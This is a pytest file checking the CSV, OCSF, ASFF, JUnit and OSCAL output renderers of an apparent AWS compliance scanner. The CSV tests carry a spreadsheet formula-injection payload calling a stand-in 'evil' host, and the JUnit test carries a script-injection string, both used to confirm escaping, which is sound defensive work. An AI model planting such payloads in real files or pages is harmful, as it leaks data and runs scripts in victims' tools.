"""CSV, OCSF, ASFF, JUnit and OSCAL outputs: each validated against its schema or library model,
and all of them agreeing with the JSON result on the counts."""

from __future__ import annotations

import copy
import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from collections import Counter
from pathlib import Path
from typing import Any

import botocore.session
import jsonschema
import pytest
from botocore.exceptions import ParamValidationError
from botocore.validate import validate_parameters
from trestle.oscal import OSCAL_VERSION
from trestle.oscal.assessment_results import AssessmentResults
from trestle.oscal.ssp import SystemSecurityPlan

from demarcate.compliance.frameworks import get_framework, oscal_control_id, score
from demarcate.outputs import asff, csv_report, junit, ocsf
from demarcate.outputs.formats import load_formats

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
FORMATS = load_formats()
ALL = ("json", "csv", "ocsf", "asff", "junit", "oscal-ssp", "oscal-ar")
HOSTILE = '=HYPERLINK("http://evil/?"&A1,"x")'


@pytest.fixture(scope="module")
def report() -> dict[str, Any]:
    from demarcate.scan_runner import run_demo_scan

    return run_demo_scan().report


@pytest.fixture(scope="module")
def rendered(report) -> dict[str, str]:
    return {name: FORMATS[name].render(report) for name in ALL}


def counts_of(report: dict[str, Any]) -> dict[str, int]:
    c = Counter(f["status"] for f in report["findings"])
    return {s: c.get(s, 0) for s in ("FAIL", "PASS", "UNKNOWN")}


def tiny_report(**finding_overrides: Any) -> dict[str, Any]:
    finding = {
        "check_id": "s3-bucket-versioning",
        "title": "S3 buckets keep object versions",
        "service": "s3",
        "duty_id": "s3.versioning-lifecycle",
        "status": "FAIL",
        "severity": "medium",
        "resource_id": "arn:aws:s3:::b1",
        "resource_type": "s3.bucket",
        "region": "eu-west-1",
        "evidence": "bucket b1: versioning is never enabled",
        "remediation": {
            "console": "S3 > b1 > Properties",
            "cli": "aws s3api ...",
            "terraform": "x",
        },
        "account": "123456789012",
        "resource_name": "b1",
        "resource_arn": "arn:aws:s3:::b1",
        "compliance": {"securityhub": ["S3.14"]},
        "location": None,
    }
    finding.update(finding_overrides)
    return {
        "schema_version": "1.0",
        "scan": {
            "source": "demo",
            "account": "123456789012",
            "regions": ["eu-west-1"],
            "started": "2026-01-01T00:00:00Z",
            "finished": "2026-01-01T00:00:05Z",
            "duration_seconds": 5,
            "tool": "demarcate",
            "tool_version": "0.1.0",
            "model_version": "x",
        },
        "findings": [finding],
        "matrix": [],
        "summary": {},
    }


# ---------------------------------------------------------------------------------- CSV


def test_csv_one_row_per_finding_in_stable_columns(report, rendered):
    rows = list(csv.DictReader(io.StringIO(rendered["csv"])))
    assert list(rows[0]) == list(csv_report.COLUMNS)
    assert len(rows) == len(report["findings"])
    for row, f in zip(rows, report["findings"], strict=True):
        assert row["check_id"] == f["check_id"]
        assert row["resource_id"] == f["resource_id"]
        assert row["status"] == f["status"]


@pytest.mark.parametrize("value", [HOSTILE, "+1+2", "-2+3", "@SUM(A1)", "\tcmd", "\r=1"])
def test_csv_neutralizes_formulas(value):
    data = tiny_report(resource_name=value, evidence=value)
    row = next(csv.DictReader(io.StringIO(FORMATS["csv"].render(data))))
    assert row["resource_name"] == "'" + value
    assert row["evidence"] == "'" + value
    assert row["check_id"] == "s3-bucket-versioning"


def test_csv_quotes_commas_and_newlines():
    data = tiny_report(evidence='a, "b"\nc')
    row = next(csv.DictReader(io.StringIO(FORMATS["csv"].render(data))))
    assert row["evidence"] == 'a, "b"\nc'


# --------------------------------------------------------------------------------- OCSF


def test_ocsf_validates_against_the_detection_finding_schema(report, rendered):
    schema = json.loads((FIXTURES / "ocsf-1.1.0-detection-finding.schema.json").read_text())
    jsonschema.Draft202012Validator.check_schema(schema)
    events = json.loads(rendered["ocsf"])
    errors = list(jsonschema.Draft202012Validator(schema).iter_errors(events))
    assert errors == [], [f"{e.json_path}: {e.message}" for e in errors[:5]]
    assert len(events) == len(report["findings"])
    assert len({e["finding_info"]["uid"] for e in events}) == len(events)


def test_ocsf_schema_rejects_missing_required(rendered):
    schema = json.loads((FIXTURES / "ocsf-1.1.0-detection-finding.schema.json").read_text())
    event = json.loads(rendered["ocsf"])[0]
    for path in (("finding_info",), ("metadata", "product"), ("finding_info", "uid"), ("cloud",)):
        broken = copy.deepcopy(event)
        target = broken
        for key in path[:-1]:
            target = target[key]
        del target[path[-1]]
        assert not jsonschema.Draft202012Validator(schema).is_valid([broken]), path


def test_ocsf_maps_severity_status_and_cloud():
    event = json.loads(FORMATS["ocsf"].render(tiny_report(severity="critical")))[0]
    assert (event["class_uid"], event["category_uid"], event["type_uid"]) == (2004, 2, 200401)
    assert (event["severity_id"], event["severity"]) == (5, "Critical")
    assert event["status_code"] == "FAIL"
    assert event["time"] == 1767225605000
    assert event["cloud"]["account"]["uid"] == "123456789012"
    assert event["cloud"]["region"] == "eu-west-1"
    assert event["resources"][0]["uid"] == "arn:aws:s3:::b1"
    assert event["remediation"]["desc"] == "S3 > b1 > Properties"
    assert event["unmapped"]["check_id"] == "s3-bucket-versioning"
    for sev, sid in ocsf.SEVERITY_IDS.items():
        assert (
            json.loads(FORMATS["ocsf"].render(tiny_report(severity=sev)))[0]["severity_id"] == sid
        )


# --------------------------------------------------------------------------------- ASFF


@pytest.fixture(scope="module")
def batch_import_shape():
    model = botocore.session.get_session().get_service_model("securityhub")
    return model.operation_model("BatchImportFindings").input_shape


def test_asff_validates_with_botocore(report, rendered, batch_import_shape):
    findings = json.loads(rendered["asff"])
    assert len(findings) == len(report["findings"])
    batches = asff.batches(findings)
    assert sum(len(b) for b in batches) == len(findings)
    for batch in batches:
        assert 1 <= len(batch) <= 100
        assert len({f["ProductArn"] for f in batch}) == 1  # one region (and account) per call
        validate_parameters({"Findings": batch}, batch_import_shape)


def test_asff_botocore_validator_catches_errors(rendered, batch_import_shape):
    finding = json.loads(rendered["asff"])[0]
    del finding["Title"]
    with pytest.raises(ParamValidationError):
        validate_parameters({"Findings": [finding]}, batch_import_shape)


def test_asff_documented_constraints(rendered):
    findings = json.loads(rendered["asff"])
    assert len({f["Id"] for f in findings}) == len(findings)
    arn = re.compile(r"^arn:aws:securityhub:([a-z0-9-]+):(\d{12}):product/(\d{12})/default$")
    for f in findings:
        assert f["SchemaVersion"] == "2018-10-08"
        m = arn.match(f["ProductArn"])
        assert m and m.group(2) == m.group(3) == f["AwsAccountId"], f["ProductArn"]
        assert re.fullmatch(r"[a-z]{2}-[a-z]+-\d", m.group(1))
        assert all(len(t.split("/")) in (2, 3) for t in f["Types"])
        assert len(f["Title"]) <= 256 and len(f["Description"]) <= 1024
        assert len(f["Remediation"]["Recommendation"]["Text"]) <= 512
        assert f["Severity"]["Label"] in ("INFORMATIONAL", "LOW", "MEDIUM", "HIGH", "CRITICAL")
        assert f["Compliance"]["Status"] in ("PASSED", "FAILED", "WARNING", "NOT_AVAILABLE")
        assert f["CreatedAt"].endswith("Z") and f["UpdatedAt"] == f["CreatedAt"]
        assert len(f["Resources"]) == 1 and f["Resources"][0]["Id"]
        if "Region" in f["Resources"][0]:
            assert f["Resources"][0]["Region"] == m.group(1)


def test_asff_global_findings_go_to_the_home_region():
    f = json.loads(FORMATS["asff"].render(tiny_report(region="global")))[0]
    assert ":eu-west-1:" in f["ProductArn"]  # us-east-1 was not scanned
    assert "Region" not in f["Resources"][0]
    assert f["ProductFields"]["demarcate/Region"] == "global"


def test_asff_status_and_severity():
    passed = json.loads(FORMATS["asff"].render(tiny_report(status="PASS", severity="high")))[0]
    assert passed["Compliance"]["Status"] == "PASSED"
    assert passed["Severity"] == {"Label": "INFORMATIONAL", "Original": "high"}
    unknown = json.loads(FORMATS["asff"].render(tiny_report(status="UNKNOWN")))[0]
    assert unknown["Compliance"]["Status"] == "WARNING"
    failed = json.loads(FORMATS["asff"].render(tiny_report(severity="critical")))[0]
    assert failed["Severity"]["Label"] == "CRITICAL"
    assert failed["Resources"][0]["Type"] == "AwsS3Bucket"


# -------------------------------------------------------------------------------- JUnit


def test_junit_is_well_formed_with_a_suite_per_service(report, rendered):
    root = ET.fromstring(rendered["junit"].encode("utf-8"))
    assert root.tag == "testsuites"
    suites = root.findall("testsuite")
    services = {f["service"] for f in report["findings"]}
    assert services <= {s.get("name") for s in suites}
    for suite in suites:
        cases = suite.findall("testcase")
        assert int(suite.get("tests")) == len(cases)
        assert int(suite.get("failures")) == len(suite.findall("testcase/failure"))
        assert int(suite.get("skipped")) == len(suite.findall("testcase/skipped"))
    assert int(root.get("tests")) == sum(int(s.get("tests")) for s in suites)
    manual = root.findall(".//skipped[@type='MANUAL']")
    assert len(manual) == report["summary"]["customer_duties"].get("MANUAL", 0)


def test_junit_survives_hostile_text():
    nasty = '</failure><script>alert(1)</script>\x00\x1b & "q" \ud800'
    xml = FORMATS["junit"].render(tiny_report(evidence=nasty, resource_name=nasty))
    root = ET.fromstring(xml.encode("utf-8"))
    failure = root.find(".//failure")
    assert failure is not None
    assert "<script>alert(1)</script>" in failure.get("message")
    assert "\x00" not in xml


# -------------------------------------------------------------------------------- OSCAL


def test_oscal_ssp_parses_with_trestle(report, rendered):
    doc = json.loads(rendered["oscal-ssp"])
    ssp = SystemSecurityPlan.model_validate(doc["system-security-plan"])
    assert doc["system-security-plan"]["metadata"]["oscal-version"] == OSCAL_VERSION
    reqs = ssp.control_implementation.implemented_requirements
    nist = get_framework("nist-800-53-rev5")
    assert [r.control_id for r in reqs] == [oscal_control_id(c.id) for c in nist.controls]
    assert all(re.fullmatch(r"[a-z]{2}-\d+(\.\d+)?", r.control_id) for r in reqs)


def test_oscal_ssp_says_what_is_inherited_and_what_is_satisfied(report, rendered):
    doc = json.loads(rendered["oscal-ssp"])["system-security-plan"]
    SystemSecurityPlan.model_validate(doc)
    impl = doc["system-implementation"]
    leveraged = impl["leveraged-authorizations"][0]
    assert leveraged["title"].startswith("Amazon Web Services")
    this_system = next(c for c in impl["components"] if c["type"] == "this-system")
    aws_components = {c["uuid"]: c for c in impl["components"] if c["type"] == "service"}
    matrix = {s["service"]: s for s in report["matrix"]}
    assert len(aws_components) == len(matrix)
    for comp in aws_components.values():
        props = _props(comp["props"])
        assert props["leveraged-authorization-uuid"] == leveraged["uuid"]
        assert props["implementation-point"] == "external"
    scores = {oscal_control_id(c["id"]): c for c in score(report, "nist-800-53-rev5")["controls"]}
    state = {
        "PASS": "implemented",
        "FAIL": "partial",
        "UNKNOWN": "partial",
        "NOT_APPLICABLE": "not-applicable",
    }
    inherited = satisfied = 0
    for req in doc["control-implementation"]["implemented-requirements"]:
        own = [b for b in req["by-components"] if b["component-uuid"] == this_system["uuid"]]
        assert len(own) == 1
        status = scores[req["control-id"]]["status"]
        assert _props(own[0]["props"])["scan-status"] == status
        if status in state:
            assert own[0]["implementation-status"]["state"] == state[status]
        else:
            assert "implementation-status" not in own[0]
        for b in req["by-components"]:
            if b["component-uuid"] in aws_components:
                service = _props(aws_components[b["component-uuid"]]["props"])["service-id"]
                has_aws_side = bool(matrix[service]["aws_duties"])
                origination = "inherited" if has_aws_side else "customer-configured"
                assert _props(b["props"])["control-origination"] == origination
                assert ("inherited" in b) == has_aws_side
                for inh in b.get("inherited", []):
                    assert inh["description"].startswith("Inherited from AWS")
                    inherited += 1
                for sat in b.get("satisfied", []):
                    assert sat["description"].startswith("Satisfied by the customer")
                    satisfied += 1
    assert inherited > 0 and satisfied > 0


def test_oscal_ar_parses_with_trestle(report, rendered):
    ar = AssessmentResults.model_validate(json.loads(rendered["oscal-ar"])["assessment-results"])
    result = ar.results[0]
    assert len(result.observations) == len(report["findings"])
    assert len({o.uuid for o in result.observations}) == len(result.observations)
    items = {i.uuid for i in result.local_definitions.inventory_items}
    assert all(o.subjects[0].subject_uuid in items for o in result.observations)
    scores = {c["id"]: c for c in score(report, "nist-800-53-rev5")["controls"]}
    judged = {i for i, c in scores.items() if c["status"] in ("PASS", "FAIL", "UNKNOWN")}
    assert len(result.findings) == len(judged)
    observation_ids = {o.uuid for o in result.observations}
    for finding in result.findings:
        control = finding.title.split(":")[0]
        expected = "satisfied" if scores[control]["status"] == "PASS" else "not-satisfied"
        assert finding.target.status.state.value == expected
        assert finding.target.target_id == f"{oscal_control_id(control)}_obj"
        assert {r.observation_uuid for r in finding.related_observations} <= observation_ids


def test_oscal_is_deterministic(report, rendered):
    assert FORMATS["oscal-ssp"].render(report) == rendered["oscal-ssp"]
    assert FORMATS["oscal-ar"].render(report) == rendered["oscal-ar"]


# ----------------------------------------------------------------------- counts agree


def _props(items: list[dict[str, Any]]) -> dict[str, str]:
    return {p["name"]: p["value"] for p in items}


def parse_counts(name: str, text: str) -> dict[str, int]:
    if name == "json":
        return counts_of(json.loads(text))
    if name == "csv":
        c = Counter(r["status"] for r in csv.DictReader(io.StringIO(text)))
    elif name == "ocsf":
        c = Counter(e["status_code"] for e in json.loads(text))
    elif name == "asff":
        back = {"PASSED": "PASS", "FAILED": "FAIL", "WARNING": "UNKNOWN"}
        c = Counter(back[f["Compliance"]["Status"]] for f in json.loads(text))
    elif name == "junit":
        root = ET.fromstring(text.encode("utf-8"))
        cases = [t for t in root.iter("testcase") if not t.get("classname", "").endswith(".manual")]
        c = Counter(
            "FAIL"
            if t.find("failure") is not None
            else "UNKNOWN"
            if t.find("skipped") is not None
            else "PASS"
            for t in cases
        )
    elif name == "oscal-ssp":
        ssp = json.loads(text)["system-security-plan"]
        this = next(
            c for c in ssp["system-implementation"]["components"] if c["type"] == "this-system"
        )
        props = _props(this["props"])
        return {s: int(props[f"findings-{s.lower()}"]) for s in ("FAIL", "PASS", "UNKNOWN")}
    elif name == "oscal-ar":
        result = json.loads(text)["assessment-results"]["results"][0]
        c = Counter(_props(o["props"])["result"] for o in result["observations"])
        summary = _props(result["props"])
        assert {s: int(summary[f"findings-{s.lower()}"]) for s in ("FAIL", "PASS", "UNKNOWN")} == {
            s: c.get(s, 0) for s in ("FAIL", "PASS", "UNKNOWN")
        }
    else:  # pragma: no cover
        raise AssertionError(name)
    return {s: c.get(s, 0) for s in ("FAIL", "PASS", "UNKNOWN")}


def test_every_format_agrees_on_the_counts(report, rendered):
    expected = counts_of(report)
    assert expected == {s: report["summary"]["by_status"][s] for s in expected}
    assert expected["FAIL"] and expected["PASS"] and expected["UNKNOWN"]  # all three exercised
    got = {name: parse_counts(name, text) for name, text in rendered.items()}
    assert got == dict.fromkeys(ALL, expected)


def test_the_same_from_a_saved_result(report, rendered, tmp_path):
    """`demarcate report RESULT.json --format X` renders from the saved JSON, no rescan."""
    saved = json.loads(rendered["json"])
    for name in ALL:
        assert parse_counts(name, FORMATS[name].render(saved)) == counts_of(report), name
    assert FORMATS["junit"].render(saved) == rendered["junit"]
    assert FORMATS["csv"].render(saved) == rendered["csv"]


def test_formats_have_distinct_extensions():
    exts = [FORMATS[n].extension for n in ALL]
    assert len(set(exts)) == len(exts)
    assert junit.render_junit is FORMATS["junit"].render
